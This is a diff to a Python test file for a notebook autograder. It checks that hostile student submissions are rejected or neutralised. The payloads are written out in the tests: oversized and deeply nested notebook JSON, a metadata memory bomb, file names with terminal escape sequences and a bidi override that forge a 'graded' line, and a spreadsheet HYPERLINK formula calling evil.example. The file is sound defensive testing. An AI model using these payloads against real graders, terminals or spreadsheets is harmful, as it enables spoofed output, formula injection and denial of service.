@@ -7,6 +7,12 @@
 - rejected trees (symlink, FIFO, hard link, oversized file, symlinked student directory) are
   reported and their targets never opened; a broken notebook and a memory bomb get their own
   verdicts; nobody else is affected;
+- hostile submissions aimed at the grader itself (issue #11): a notebook of 200 000 tiny
+  outputs and one nested 100 000 deep are refused before nbgrader parses them; one within
+  the bounds that makes nbgrader's worker pass its memory limit costs its student `error`;
+  file names with terminal escapes, a bidi override and a forged "graded" line, or not UTF-8,
+  are refused and shown escaped; a name that is a spreadsheet formula is inert in the CSV; a
+  notebook nbgrader fails on is the student's `error`, in one short line without the log;
 - the gradebook lock: a writer holding the gradebook past SQLite's busy timeout makes another
   worker wait, not fail with "database is locked" (and without the lock, it does fail);
 - graded students are skipped on a rerun, named or --force ones regraded, newer submissions too.
@@ -207,6 +213,7 @@ def test_bad_submissions_get_their_verdicts_and_nobody_else_is_affected(tmp_path
     (student("victor") / "problem1.ipynb").write_text("{ this is not a notebook")
     _with_cell(student("walter") / "problem1.ipynb",
                "hog = []\nwhile True:\n    hog.append(b'x' * (50 << 20))")
+    hostile = _hostile_submissions(student)
 
     # anyone opening the FIFO for reading would release this writer
     opened = threading.Event()
@@ -217,7 +224,8 @@ def test_bad_submissions_get_their_verdicts_and_nobody_else_is_affected(tmp_path
 
     t = threading.Thread(target=writer, daemon=True)
     t.start()
-    code, report, out = batch(course, "--jobs", "2")
+    # nbgrader's worker is resident at about 200 MB; the metadata bomb needs gigabytes
+    code, report, out = batch(course, "--jobs", "2", "--worker-memory", "800M")
     read_by_someone = opened.is_set()
     os.close(os.open(trap, os.O_RDONLY | os.O_NONBLOCK))  # let the writer go
     t.join(5)
@@ -226,7 +234,7 @@ def test_bad_submissions_get_their_verdicts_and_nobody_else_is_affected(tmp_path
     assert code == 1, out  # not everyone graded, and no fault of ours
     by = {s["student"]: s for s in report["students"]}
     want = {"mallory": "rejected", "oscar": "rejected", "peggy": "rejected", "trent": "rejected",
-            "sybil": "rejected", "victor": "error", "walter": "memory-limit"}
+            "sybil": "rejected", "victor": "rejected", "walter": "memory-limit", **hostile}
     assert {s: by[s]["verdict"] for s in want} == want, out
     assert "notes.txt: a symlink" in by["mallory"]["message"]
     assert "pipe: a FIFO" in by["oscar"]["message"]
@@ -236,8 +244,9 @@ def test_bad_submissions_get_their_verdicts_and_nobody_else_is_affected(tmp_path
     assert "JSON" in by["victor"]["message"] or "json" in by["victor"]["message"], by["victor"]
     assert "problem1" in by["walter"]["message"]
     assert [nb["verdict"] for nb in by["walter"]["notebooks"]][0] == "memory-limit"
+    _check_hostile(course, by, out)
     # the rejected were never handed to nbgrader: nothing of theirs was graded or copied
-    for s in ["mallory", "oscar", "peggy", "trent", "sybil"]:
+    for s in ["mallory", "oscar", "peggy", "trent", "sybil", "victor"] + [s for s, v in hostile.items() if v == "rejected"]:
         assert not (course / "autograded" / s).exists(), s
     assert not any((course / ".isolate-grade/ps1/submitted").iterdir())
     # everyone else, the control students, graded as expected
@@ -245,6 +254,75 @@ def test_bad_submissions_get_their_verdicts_and_nobody_else_is_affected(tmp_path
     for s, per in EXPECTED.items():
         assert by[s]["verdict"] == "graded" and got[s] == per, s
     assert not leftovers(course)
+
+
+FORGED = "\x1b]0;pwned\x07\x1b[2J\r\x1b[2K\u202ealice  graded  full marks\x1b[8m"
+FORMULA = '=HYPERLINK("evil.example?q","click")'
+HIDDEN = ["squares(11) ==", "sum_of_squares(11) =="]  # the fixture's hidden tests
+
+
+def _write_json(path, doc):
+    path.write_text(json.dumps(doc))
+
+
+def _hostile_submissions(student):
+    """Submissions aimed at the grader, each a copy of alice's: {student: expected verdict}."""
+    ursula = student("ursula")
+    nb = json.loads((ursula / "problem1.ipynb").read_text())
+    cell = next(c for c in nb["cells"] if c["cell_type"] == "code")
+    # 200 000 tiny outputs, 10 MB: past the default bound of 10 000 outputs
+    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x"}] * 200_000
+    _write_json(ursula / "problem1.ipynb", nb)
+    cell["outputs"] = []
+    # nested 100 000 deep: past the bound of 64 (and Python's recursion limit)
+    deep = student("yvonne") / "problem1.ipynb"
+    deep.write_text(json.dumps(nb)[:-1] + ', "deep": ' + "[" * 100_000 + "]" * 100_000 + "}")
+    # within every bound (one cell, no output, 24 MB, depth 5), but 8 M objects in a cell's
+    # metadata make nbgrader's worker need gigabytes: past --worker-memory
+    cell["metadata"]["bomb"] = "BOMB"
+    bomb = student("zelda") / "problem1.ipynb"
+    bomb.write_text(json.dumps(nb).replace('"BOMB"', "[" + ",".join(["{}"] * 8_000_000) + "]"))
+    del cell["metadata"]["bomb"]
+    # file names: terminal escapes with a forged line, a formula, bytes that aren't UTF-8
+    (student("xavier") / FORGED).write_text("notes")
+    os.symlink("../../../source/ps1/problem1.ipynb", student("yusuf") / FORMULA)
+    with open(os.path.join(os.fsencode(student("wendy")), b"caf\xe9-notes.txt"), "w") as f:
+        f.write("notes")
+    # a notebook nbgrader reads and fails on, with terminal escapes in its exception's text:
+    # the student's error, in one line, without the log, escaped wherever it is shown
+    _write_json(student("quentin") / "problem1.ipynb", {**nb, "nbformat": "\x1b[2J\x1b]0;pwned\x07 99"})
+    return {"ursula": "rejected", "yvonne": "rejected", "zelda": "error", "xavier": "rejected",
+            "yusuf": "rejected", "wendy": "rejected", "quentin": "error"}
+
+
+def _check_hostile(course, by, out):
+    assert "--notebook-max-outputs" in by["ursula"]["message"] and "200000 outputs" in by["ursula"]["message"]
+    assert "--notebook-max-depth" in by["yvonne"]["message"]
+    assert "--worker-memory" in by["zelda"]["message"], by["zelda"]
+    assert "control characters" in by["xavier"]["message"]
+    assert by["yusuf"]["message"].startswith(FORMULA), by["yusuf"]
+    assert "caf\\xe9-notes.txt: a name that is not UTF-8" in by["wendy"]["message"], by["wendy"]
+    q = by["quentin"]["message"]
+    assert q.startswith("problem1: nbformat.NBFormatError: ") and "logs/quentin.log" in q and len(q) < 400, q
+    assert "\x1b[2J" in q, "the JSON report keeps the data"
+    logs = course / ".isolate-grade" / "ps1" / "logs"
+    assert "pwned" in (logs / "quentin.log").read_text()
+    for log in logs.iterdir():
+        assert b"\x1b" not in log.read_bytes(), f"{log}: a raw escape"
+    assert by["victor"]["message"].startswith("problem1.ipynb: not a notebook's JSON"), by["victor"]
+    # nothing a student named reaches the terminal raw: no escape, no bidi override
+    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out, out
+    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x0d\\x1b[2K\\u{202e}alice  graded" in out, out
+    assert not any(line.startswith("alice  graded") or line.startswith("\x1b") for line in out.splitlines())
+    # nor a formula to the spreadsheet
+    rows = list(csv.DictReader(open(course / "report.csv", newline="")))
+    assert [r["message"][:2] for r in rows if r["student"] == "yusuf"] == ["'="]
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values()), rows
+    # never the hidden tests, anywhere the instructor reads at a glance
+    report_text = (course / "report.json").read_text()
+    for h in HIDDEN:
+        assert h not in out and h not in report_text, h
+    assert all(len(s["message"] or "") < 600 for s in by.values())
 
 
 def _load_worker():
